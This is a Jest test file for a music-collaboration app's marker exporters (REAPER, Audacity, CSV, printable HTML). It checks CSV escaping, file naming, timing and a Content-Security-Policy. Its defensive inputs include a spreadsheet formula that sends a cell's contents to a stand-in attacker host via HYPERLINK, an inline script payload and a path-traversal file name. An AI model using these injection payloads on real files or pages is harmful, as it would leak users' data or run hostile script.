import { readFile } from 'node:fs/promises';
import { describe, expect, test } from '@jest/globals';
import { CATEGORY_COLOURS } from './category-colours.js';
import { clock } from './clock.js';
import { MARKER_FILES, markerFileName } from './marker-files.js';
import type { Marker } from './version-markers.js';

const version = { projectName: 'Low tide', number: '1.2', tinySummary: 'Vocal <up>' };
const region: Marker = {
  kind: 'region',
  start: 1,
  end: 2.5,
  category: 'mix',
  name: 'Verse 1, "loud"',
  label: 'Verse 1, "loud"',
  text: '',
  author: 'Ana Lund',
  dateAdded: Date.UTC(2026, 10, 23, 9, 30),
  completed: null,
};
const comment: Marker = {
  ...region,
  kind: 'comment',
  start: 3_725.0625,
  end: null,
  category: null,
  name: 'Bob: Too loud here',
  label: null,
  text: 'Too loud here\nand “here” 🥁',
  author: 'Bob',
};
const todo: Marker = { ...comment, kind: 'todo', start: 4, category: 'style', name: 'Todo: =Bob: -3 dB', text: '-3 dB', author: '=Bob', completed: false };
const done: Marker = { ...todo, name: 'Todo: Bob: Done', text: 'Done', author: 'Bob', completed: true };
const markers = [region, todo, { ...region, end: 1.05, category: 'general', name: '=1+1', label: '=1+1' } as const, done, comment];

describe('REAPER', () => {
  test('rows have the columns of the Region/Marker Manager: R or M with a number, the name, h:mm:ss.mmm, RRGGBB; markers have no end, length or colour', () => {
    expect(MARKER_FILES.reaper.write(markers, version)).toBe(
      [
        '#,Name,Start,End,Length,Color\r\n',
        'R1,"Verse 1, ""loud""",0:00:01.000,0:00:02.500,0:00:01.500,1D4F92\r\n',
        'M1,Todo: =Bob: -3 dB,0:00:04.000,,,\r\n',
        "R2,'=1+1,0:00:01.000,0:00:01.050,0:00:00.050,5F5E1A\r\n",
        'M2,Bob: Too loud here,1:02:05.063,,,\r\n',
      ].join(''),
    );
  });
});

describe.each(['reaper', 'csv'] as const)('in a %s file', (format) => {
  test.each(['=HYPERLINK("https://evil.example/?"&A1,"open")', '=1+1', '+1', '-3 dB', '@SUM(A1)'])('no cell starts like the formula %j', (name) => {
    const rows = MARKER_FILES[format].write(
      [
        { ...region, name, label: name, author: name },
        { ...comment, name, text: name, author: name },
      ],
      version,
    );
    expect(rows.match(/(^|,|"|\n)[=+\-@]/g)).toBeNull();
    expect(rows).toContain(`'${name.replaceAll('"', '""')}`);
  });
});

describe('Audacity', () => {
  test('a line has start and end in seconds with six decimals and the label, with tabs between; a point ends where it starts', () => {
    expect(MARKER_FILES.audacity.write(markers, version)).toBe(
      [
        '1.000000\t2.500000\tVerse 1, "loud"\n',
        '4.000000\t4.000000\tTodo: =Bob: -3 dB\n',
        '1.000000\t1.050000\t=1+1\n',
        '3725.062500\t3725.062500\tBob: Too loud here\n',
      ].join(''),
    );
  });
});

describe('CSV', () => {
  test('follows RFC 4180: a header row, CRLF, cells with commas, quotes or line breaks quoted, quotes doubled; completed todos are included', () => {
    const date = '2026-11-23T09:30:00.000Z';
    expect(MARKER_FILES.csv.write([region, comment, done], version)).toBe(
      [
        'kind,start,end,category,name,text,author,date,completed\r\n',
        `region,1.000,2.500,mix,"Verse 1, ""loud""",,Ana Lund,${date},\r\n`,
        `comment,3725.063,,,Bob: Too loud here,"Too loud here\nand “here” 🥁",Bob,${date},\r\n`,
        `todo,4.000,,style,Todo: Bob: Done,Done,Bob,${date},true\r\n`,
      ].join(''),
    );
  });

  test.each(['=1+1', '+1', '-3 dB', '@SUM(A1)', '\tx'])('a cell that starts like the formula %j starts with an apostrophe', (text) => {
    const [, row] = MARKER_FILES.csv.write([{ ...comment, text, author: text }], version).split('\r\n');
    expect(row).toBe(`comment,3725.063,,,Bob: Too loud here,'${text},'${text},2026-11-23T09:30:00.000Z,`);
  });
});

describe('the page to print', () => {
  const page = MARKER_FILES.print.write([{ ...region, label: '<b>"A" & \'B\'</b>' }, { ...todo, text: '<script>alert(1)</script>' }, done], version);

  test('is HTML with every text escaped and without completed todos', () => {
    expect(page.slice(page.indexOf('<body>'))).toBe(`<body>
<h1 dir="auto">Low tide 1.2</h1>
<p dir="auto">Vocal &lt;up&gt;</p>
<table>
<thead><tr><th>Time</th><th>Kind</th><th>Category</th><th>Text</th><th>Author</th><th>Date</th></tr></thead>
<tbody>
<tr><td class="time">0:00:01.000 – 0:00:02.500</td><td>Region</td><td class="mix">Mix</td><td class="text" dir="auto">&lt;b&gt;&quot;A&quot; &amp; &#39;B&#39;&lt;/b&gt;</td><td dir="auto">Ana Lund</td><td class="time">2026-11-23</td></tr>
<tr><td class="time">0:00:04.000</td><td>Todo</td><td class="style">Style</td><td class="text" dir="auto">&lt;script&gt;alert(1)&lt;/script&gt;</td><td dir="auto">=Bob</td><td class="time">2026-11-23</td></tr>
</tbody>
</table>
</body>
</html>
`);
  });

  test('allows its own style sheet and nothing else, also when it is opened from a disk', () => {
    expect(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(page)?.[1]).toMatch(
      /^default-src &#39;none&#39;; style-src &#39;sha256-[\w+/=]{44}&#39;; base-uri &#39;none&#39;; form-action &#39;none&#39;$/,
    );
    expect(page).not.toMatch(/<script|javascript:|\son\w+=|https?:/);
  });

  test('says when there is nothing to print', () => {
    expect(MARKER_FILES.print.write([done], version)).toContain('<p>This version has no markers.</p>');
  });
});

test('without markers, a table has its header row only, and a label track is empty', () => {
  expect(MARKER_FILES.reaper.write([], version)).toBe('#,Name,Start,End,Length,Color\r\n');
  expect(MARKER_FILES.csv.write([], version)).toBe('kind,start,end,category,name,text,author,date,completed\r\n');
  expect(MARKER_FILES.audacity.write([], version)).toBe('');
});

test('a file is named after the project and the version', () => {
  expect(markerFileName(version, 'reaper')).toBe('Low tide 1.2 REAPER markers.csv');
  expect(markerFileName(version, 'audacity')).toBe('Low tide 1.2 Audacity labels.txt');
  expect(markerFileName({ ...version, projectName: '..\\AC/DC: "Überarbeitung"?\u202e' }, 'csv')).toBe('_AC_DC_ _Überarbeitung__ 1.2 markers.csv');
});

test('times are rounded to the millisecond before they are split', () => {
  expect([0, 59.9996, 3_599.9995, 7_325.25].map(clock)).toEqual(['0:00:00.000', '0:01:00.000', '1:00:00.000', '2:02:05.250']);
});

test("the colours are those of the page's light theme", async () => {
  const tokens = await readFile('frontend/src/shared/styles/tokens.css', 'utf8');
  const light = tokens.slice(tokens.indexOf(':root[data-theme="light"]'));
  for (const [category, colour] of Object.entries(CATEGORY_COLOURS)) expect(light).toContain(`--cat-${category}: #${colour.toLowerCase()};`);
});
